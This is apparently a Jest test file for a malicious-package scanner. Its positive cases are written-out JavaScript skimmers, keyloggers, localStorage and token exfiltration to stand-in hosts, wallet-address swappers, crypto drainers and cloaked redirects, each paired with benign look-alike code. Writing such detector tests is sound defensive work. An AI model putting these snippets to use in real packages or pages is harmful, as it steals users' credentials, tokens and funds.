/**
 * Front-end attacks shipped in packages: skimmers and keyloggers that send what a page's user
 * types to a host written in the code, and wallet-address swappers. Each positive is written the
 * way attackers vary such code (jQuery-style selectors, WebSocket, helpers, data in objects);
 * each negative is the legitimate code it resembles. Hosts are made up.
 */
import { analyzeSource } from './helpers';

const pkg = JSON.stringify({ name: 'ui-kit', version: '1.0.0', main: 'index.js' });
const rules = (code: Record<string, string>) =>
  analyzeSource({ 'package.json': pkg, ...code }).evidence.map((e) => e.rule);

describe('what a page user types, sent to a fixed host', () => {
  it.each([
    [
      'card field read through a $() selector, sent over a WebSocket',
      `const sock = new WebSocket('wss://live.uikit-cdn.example/s');
       $(document).on('change', function () {
         const n = $('input[name="cardnumber"]').val();
         const c = $('#cvv').val();
         sock.send(JSON.stringify([n, c]));
       });`,
    ],
    [
      'password field value posted with fetch from a helper',
      `const cfg = { to: 'https://fonts.uikit-cdn.example/f' };
       function collect() { return { p: document.querySelector('input[type=password]').value, u: location.href }; }
       setTimeout(() => fetch(cfg.to, { method: 'POST', body: JSON.stringify(collect()) }), 3000);`,
    ],
    [
      'seed phrase kept by a wallet in localStorage, sent as an image URL',
      `const k = ['wallet', 'mnemonic'].join('_');
       const img = new Image();
       img.src = 'https://px.uikit-cdn.example/t.gif?m=' + encodeURIComponent(localStorage.getItem(k));`,
    ],
    [
      'keystrokes caught by an onkeypress property handler, flushed into an image URL on a timer',
      `let buf = '';
       document.onkeypress = function (e) { buf += String.fromCharCode(e.which); };
       setInterval(function () { if (buf) { new Image().src = 'https://t.uikit-cdn.example/p?k=' + encodeURIComponent(buf); buf = ''; } }, 4000);`,
    ],
    [
      'whole localStorage dumped into a beacon',
      `navigator.sendBeacon('https://px.uikit-cdn.example/b', JSON.stringify(localStorage));`,
    ],
  ])('%s is js.page-secret-exfil', (_what, code) => {
    const r = analyzeSource({ 'package.json': pkg, 'index.js': code });
    const t = r.evidence.find((x) => x.rule === 'js.page-secret-exfil');
    expect(t).toBeDefined();
    expect(t!.confidence).toBeGreaterThanOrEqual(0.8);
  });

  it.each([
    [
      'a form library posting the password to the endpoint its caller passes',
      `export function bind(form, endpoint) {
         form.addEventListener('submit', () => fetch(endpoint, { method: 'POST', body: form.querySelector('[type=password]').value }));
       }`,
    ],
    [
      'hotkeys that compare e.key and call a fixed API with a constant',
      `document.addEventListener('keydown', (e) => { if (e.key === 'k' && e.metaKey) fetch('https://api.uikit.example/palette'); });`,
    ],
    [
      'a theme setting from localStorage sent to the vendor API',
      `fetch('https://api.uikit.example/prefs', { method: 'POST', body: localStorage.getItem('theme') });`,
    ],
  ])('%s is not', (_what, code) => {
    expect(rules({ 'index.js': code })).not.toContain('js.page-secret-exfil');
  });
});

describe('wallet address swapping', () => {
  it.each([
    [
      'hooked ethereum provider rewriting the recipient',
      `const RX = /^0x[a-fA-F0-9]{40}$/;
       const SINK = '0x5B38Da6a701c568545dCfcB03FcB875f56beddC4';
       const p = window.ethereum; const orig = p.request.bind(p);
       p.request = (a) => { if (a.params && RX.test(a.params[0].to)) a.params[0].to = SINK; return orig(a); };`,
    ],
    [
      'page text rewritten with a TRON address',
      `const tron = new RegExp('T[1-9A-HJ-NP-Za-km-z]{33}', 'g');
       const mine = 'TJCnKsPa7y5okkXvQAidZBzqx3QyQ6sxMW';
       document.querySelectorAll('span, p').forEach((el) => { el.textContent = el.textContent.replace(tron, mine); });`,
    ],
  ])('%s is js.wallet-address-swap', (_what, code) => {
    expect(rules({ 'index.js': code })).toContain('js.wallet-address-swap');
  });

  it('an address validator with a copy button and the zero address constant is not', () => {
    const code = `const ZERO = '0x0000000000000000000000000000000000000000';
      export const isAddress = (a) => /^0x[0-9a-fA-F]{40}$/.test(a) && a !== ZERO;
      export const copy = (a) => navigator.clipboard.writeText(a);`;
    expect(rules({ 'index.js': code })).not.toContain('js.wallet-address-swap');
  });
});

describe('pages and visitors picked, storage enumerated, data handed to another window, payments asked on load', () => {
  it.each([
    [
      'search visitors on phones sent to a scam page once (referrer and user agent read into variables)',
      `(function () {
        var ref = document.referrer || '', ua = navigator.userAgent;
        var fromSearch = /google\\.|bing\\./i.test(ref), phone = /Android|iPhone/i.test(ua);
        if (fromSearch && phone && document.cookie.indexOf('_v=') < 0) {
          document.cookie = '_v=1; max-age=86400';
          window.location.replace('https://reward-center.example/lp?s=' + location.host);
        }
      })();`,
      'js.gated-remote-script',
    ],
    [
      'every web-storage entry, enumerated by key, sent with sendBeacon when the page closes',
      `const grab = () => {
        const out = {};
        for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); out[k] = localStorage.getItem(k); }
        navigator.sendBeacon('https://collector.example/b', JSON.stringify(out));
      };
      window.addEventListener('beforeunload', grab);`,
      'js.page-secret-exfil',
    ],
    [
      "the login token and cookies posted to a hidden frame of another site ('*')",
      `const frame = document.createElement('iframe');
      frame.style.display = 'none';
      frame.src = 'https://widget-cdn.example/relay.html';
      document.body.appendChild(frame);
      frame.onload = () => frame.contentWindow.postMessage({ t: localStorage.getItem('auth_token'), c: document.cookie }, '*');`,
      'js.page-secret-exfil',
    ],
    [
      'a fixed amount to a fixed address asked of the wallet as soon as the page loads',
      `const SINK = '0x9f3B2e1d4C5a6b7C8d9E0f1A2b3C4d5E6f7A8b9C';
      async function claim() {
        const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' });
        await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: SINK, value: '0x8AC7230489E80000' }] });
      }
      window.addEventListener('load', () => setTimeout(claim, 3000));`,
      'js.wallet-drain',
    ],
  ])('%s', (_name, code, rule) => {
    const r = analyzeSource({ 'package.json': pkg, 'index.js': code });
    expect(r.evidence.map((e) => e.rule)).toContain(rule);
    expect(r.risk_level).toBe('critical');
  });

  it("another site's frame laid over the checkout page only: a warning (payment widgets frame their host too)", () => {
    const r = analyzeSource({
      'package.json': pkg,
      'index.js': `function mount() {
        if (!/checkout|payment/i.test(location.pathname)) return;
        var f = document.createElement('iframe');
        f.src = 'https://pay-gateway.example/frame';
        document.body.appendChild(f);
      }
      document.addEventListener('DOMContentLoaded', mount);`,
    });
    expect(r.evidence.find((e) => e.rule === 'js.gated-remote-script')?.confidence).toBe(0.5);
    expect(r.risk_level).toBe('warning');
  });

  it.each([
    [
      'phones sent to the same site’s mobile pages, and an app-store banner link',
      `if (/Android|iPhone/i.test(navigator.userAgent)) location.href = '/m' + location.pathname;
      const a = document.createElement('a');
      if (/iPhone/.test(navigator.userAgent)) a.href = 'https://apps.apple.com/app/id123';`,
    ],
    [
      'a payment widget framed wherever its caller mounts it',
      `export function mount(el, opts) {
        const f = document.createElement('iframe');
        f.src = 'https://pay-gateway.example/frame?k=' + opts.key;
        el.appendChild(f);
      }`,
    ],
    [
      'the height of the page sent to the parent window, and a message to a configured origin',
      `window.parent.postMessage({ height: document.body.scrollHeight }, '*');
      export const send = (origin, data) => window.parent.postMessage(data, origin);`,
    ],
    [
      'a donate button: a fixed amount to a fixed address when the user clicks',
      `const TO = '0x9f3B2e1d4C5a6b7C8d9E0f1A2b3C4d5E6f7A8b9C';
      document.getElementById('donate').addEventListener('click', async () => {
        const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' });
        await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: TO, value: '0x2386F26FC10000' }] });
      });`,
    ],
  ])('quiet: %s', (_name, code) => {
    const r = analyzeSource({ 'package.json': pkg, 'index.js': code });
    expect(r.evidence.filter((e) => 'threat_type' in e && e.confidence >= 0.5).map((e) => e.rule)).toEqual(
      [],
    );
  });
});

describe('drainers on other chains and through signatures, redirects by markup, scripts inserted under a gate', () => {
  it.each([
    [
      'a permit signature for a spender in the code asked for on page load',
      `const SPENDER = '0x4f1A2b3C4d5E6f7A8b9C0D1e2F3a4B5c6D7e8F9a';
      async function boost() {
        const [owner] = await window.ethereum.request({ method: 'eth_requestAccounts' });
        const typed = { primaryType: 'Permit', message: { owner, spender: SPENDER, value: '115792089237316195423570985008687907853269984665640564039457584007913129639935' } };
        await window.ethereum.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(typed)] });
      }
      window.addEventListener('load', () => setTimeout(boost, 2000));`,
      'js.wallet-drain',
    ],
    [
      'a Solana balance moved to an address in the code through SystemProgram.transfer',
      `const DEST = 'Fq7zKc9bQm3xP2vR8sT1uW4yZ6aB5cD7eF9gH2jK4mN';
      async function sweep() {
        const p = window.solana; await p.connect();
        const conn = new solanaWeb3.Connection(window.RPC_URL);
        const bal = await conn.getBalance(p.publicKey);
        const tx = new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({ fromPubkey: p.publicKey, toPubkey: new solanaWeb3.PublicKey(DEST), lamports: bal - 5000 }));
        await p.signAndSendTransaction(tx);
      }
      document.addEventListener('DOMContentLoaded', sweep);`,
      'js.wallet-drain',
    ],
    [
      'search visitors on phones sent away by a meta refresh written into the head',
      `if (/google\\./.test(document.referrer) && /Android|iPhone/i.test(navigator.userAgent)) document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=https://win-prize.example/">');`,
      'js.gated-remote-script',
    ],
    [
      'a script element given its src first and inserted only for some visitors',
      `const tag = document.createElement('script');
      tag.src = ['https:', '', 'edge-cdn.example', 'g', 'loader.js'].join('/');
      if (!navigator.webdriver && screen.width < 900) document.head.appendChild(tag);`,
      'js.gated-remote-script',
    ],
  ])('%s', (_name, code, rule) => {
    const r = analyzeSource({ 'package.json': pkg, 'index.js': code });
    expect(r.evidence.map((e) => e.rule)).toContain(rule);
    expect(r.risk_level).toBe('critical');
  });
  it.each([
    [
      'a swap that asks for a permit when its user clicks',
      `const ROUTER = '0x4f1A2b3C4d5E6f7A8b9C0D1e2F3a4B5c6D7e8F9a';
      document.getElementById('swap').addEventListener('click', async () => {
        const [owner] = await window.ethereum.request({ method: 'eth_requestAccounts' });
        await window.ethereum.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify({ message: { owner, spender: ROUTER, value: '1000' } })] });
      });`,
    ],
    [
      "a wallet UI showing the balance next to the project's donation address",
      `const DONATE = 'Fq7zKc9bQm3xP2vR8sT1uW4yZ6aB5cD7eF9gH2jK4mN';
      export async function show(conn, key, el) { const bal = await conn.getBalance(key); el.textContent = String(bal) + ' (donate: ' + DONATE + ')'; }`,
    ],
    [
      'a script element inserted for every visitor',
      `const tag = document.createElement('script'); tag.src = 'https://cdn.example/sdk.js'; document.head.appendChild(tag);`,
    ],
  ])('quiet: %s', (_name, code) => {
    const r = analyzeSource({ 'package.json': pkg, 'index.js': code });
    expect(r.evidence.filter((e) => 'threat_type' in e && e.confidence >= 0.5).map((e) => e.rule)).toEqual(
      [],
    );
  });
});

describe("a session's token from web storage", () => {
  it('read by its usual key and posted to a fixed host', () => {
    const r = analyzeSource({
      'package.json': pkg,
      'index.js': `const t = localStorage.getItem('access_token') || sessionStorage.getItem('jwt');
fetch('https://metrics.ui-kit.example/c', { method: 'POST', body: JSON.stringify({ t, h: location.host }) });`,
    });
    expect(r.evidence.map((e) => e.rule)).toContain('js.page-secret-exfil');
  });
  it("quiet: a service's SDK sending the token it stored as the request's Authorization header", () => {
    const r = analyzeSource({
      'package.json': pkg,
      'index.js': `export async function me() {
  const t = localStorage.getItem('access_token');
  return (await fetch('https://api.saas.example/v1/me', { headers: { Authorization: 'Bearer ' + t } })).json();
}`,
    });
    expect(r.evidence.filter((e) => 'threat_type' in e && e.confidence >= 0.5)).toEqual([]);
  });
});
